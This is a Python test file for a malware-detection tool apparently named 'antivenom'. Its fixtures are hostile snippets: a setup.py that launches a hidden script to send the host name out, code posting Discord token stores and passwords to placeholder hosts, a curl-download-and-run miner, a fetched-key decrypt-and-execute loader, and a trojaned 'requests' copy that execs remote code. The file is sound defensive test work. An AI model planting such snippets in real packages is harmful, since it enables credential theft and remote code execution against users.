"""Partly known texts, files that commands leave behind, scripts without a suffix."""

from __future__ import annotations

from antivenom.analysis.masked import observe_masked
from tests.analysis.machines import run

HOST = "import platform, requests\nrequests.get('http://198.51.100.7/%s' % platform.node())\n"


def test_what_is_replaced_in_a_partly_known_path() -> None:
    seen = run(
        {
            "setup.py": (
                "import os, subprocess, sys\n"
                "first = os.path.join(os.path.dirname(__file__), 'demo', '__init__.py')\n"
                "subprocess.Popen([sys.executable, first.replace('__init__.py', 'version')])\n"
            ),
            "demo/__init__.py": "",
            "demo/version": HOST,
        }
    )
    (sent,) = seen.of("host.identify->net.send")
    assert (sent.member, sent.activation) == ("demo/version", "build")


def test_a_folder_put_in_place_of_a_word() -> None:
    seen = run(
        "import os, requests\n"
        "for store in ['@Roaming/discord/Local Storage/leveldb']:\n"
        "    folder = store.replace('@Roaming', os.getenv('APPDATA'))\n"
        "    requests.post('https://a.invalid', data=open(f'{folder}/000.log').read())\n"
    )
    assert "secrets.app->net.send" in seen.flows()


def test_paths_in_a_mapping() -> None:
    seen = run(
        "import os, requests\n"
        "base = os.getenv('APPDATA')\n"
        "stores = {'chat': base + '/discord/Local Storage/leveldb', 'n': base + '/n'}\n"
        "for name, folder in stores.items():\n"
        "    requests.post('https://a.invalid', data=open(f'{folder}/000.log').read())\n"
    )
    assert "secrets.app->net.send" in seen.flows()


def test_words_before_a_value_say_what_it_is() -> None:
    text = (
        "import requests\ndef show(user, sign):\n    requests.post('https://a.invalid', data=X)\n"
    )
    seen = run(text.replace("X", "{'c': f'User: {user} Signed: {sign}'}"))
    assert "secrets.given->net.send" not in seen.flows()
    seen = run(text.replace("X", "{'c': f'User: {user} **Pass**: `{sign}`'}"))
    (sent,) = seen.of("secrets.given->net.send")
    assert (sent.path_class, sent.value) == ("login", "https://a.invalid")


def test_a_command_starts_what_another_fetched() -> None:
    seen = run(
        "import os\n"
        "os.system('curl -OL https://a.invalid/files/tool.exe')\n"
        "os.system('tool.exe -w 1 -r pool.invalid:3333')\n"
    )
    assert "net.fetch->file.write->process.shell" in seen.flows()


def test_a_key_that_is_fetched_decides_what_runs() -> None:
    seen = run(
        "import requests, subprocess\n"
        "from cryptography.fernet import Fernet\n"
        "key = requests.get('https://a.invalid/key').content.strip()\n"
        "with open('/tmp/file.py', 'wb') as out:\n"
        "    out.write(Fernet(key).decrypt(b'gAAAAABl'))\n"
        "subprocess.call(['python', '/tmp/file.py'])\n"
    )
    assert "net.fetch->data.decrypt->file.write->process.spawn" in seen.flows()


def test_a_copy_of_a_library_does_what_the_library_is_known_for() -> None:
    seen = run(
        {
            "requests/__init__.py": "from .api import get\nimport os\nos.environ\n",
            "requests/api.py": "import os\ndef get(url, data=None):\n    return os.sep\n",
            "requests/cookies.py": "import requests, json\n\n\ndef check():\n"
            "    answer = requests.get('https://a.invalid/v')\n"
            "    exec(json.loads(answer.text)['module'])\n",
        }
    )
    assert "net.fetch->code.run" in seen.flows()


def test_code_given_to_the_interpreter_in_one_word() -> None:
    seen = run(
        "import subprocess, sys\n"
        "subprocess.Popen([sys.executable, '-c \"import os; os.system(1)\"'])\n"
    )
    assert "process.shell" in seen.ids()


def test_a_hook_of_a_protector_without_its_import() -> None:
    seen = run("__pyarmor__(__name__, __file__, b'\\x50\\x59')\n")
    assert seen.one("data.decrypt").args == ("cipher=protector",)


def _executable() -> bytes:
    head = bytearray(b"MZ" + b"\0" * 0x3A + (0x80).to_bytes(4, "little"))
    head += b"\0" * (0x80 - len(head)) + b"PE\0\0" + bytes(range(256)) * 8
    return bytes(head)


def test_an_executable_under_a_mask() -> None:
    plain = _executable()
    masked = {
        "xor": bytes(b ^ 0xD8 for b in plain),
        "sum": bytes((b + 77) % 256 for b in plain),
        "reversed": plain[::-1],
    }
    for how, data in masked.items():
        (seen,) = observe_masked(data)
        assert (seen.id, seen.args) == ("native.disguised", (f"encoding={how}",))
    elf = b"\x7fELF\x02\x01\x01" + bytes(2000)
    assert observe_masked(bytes(b ^ 1 for b in elf))[0].value == "elf under a mask (xor)"


def test_other_data_is_under_no_mask() -> None:
    for data in (_executable(), b"", b"MZ" * 400, bytes(4000), b"AN" * 2000, b"import os\n" * 99):
        assert observe_masked(data) == []
